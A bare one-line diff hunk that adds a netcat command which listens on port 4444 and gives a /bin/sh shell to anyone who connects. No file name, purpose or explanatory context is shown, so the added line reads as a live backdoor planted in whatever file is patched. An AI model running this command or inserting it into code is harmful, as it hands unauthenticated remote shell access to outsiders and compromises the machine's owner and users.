@@ -1,0 +1,1 @@
+sh -c "nc -lp 4444 -e /bin/sh"
